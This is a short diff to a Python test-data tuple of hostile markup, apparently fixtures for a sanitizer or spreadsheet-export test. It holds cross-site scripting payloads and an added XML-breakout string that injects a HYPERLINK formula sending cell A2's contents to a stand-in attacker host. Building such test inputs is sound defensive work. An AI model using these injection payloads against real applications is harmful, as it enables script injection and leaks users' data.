@@ -1,6 +1,8 @@
 """What somebody writes who wants more than to be heard."""
 
 MARKUP = (
+    "<r>a & b</r>",
+    '<r><t>x</t></r></is></c><c r="C2"><f>HYPERLINK("http://evil.example/"&A2,"open")</f></c><c><is><r><t>y</t></r>',
     "<script>window.pwned=1</script>",
     "<img src=x onerror=window.pwned=1>",
     "<svg/onload=window.pwned=1>",
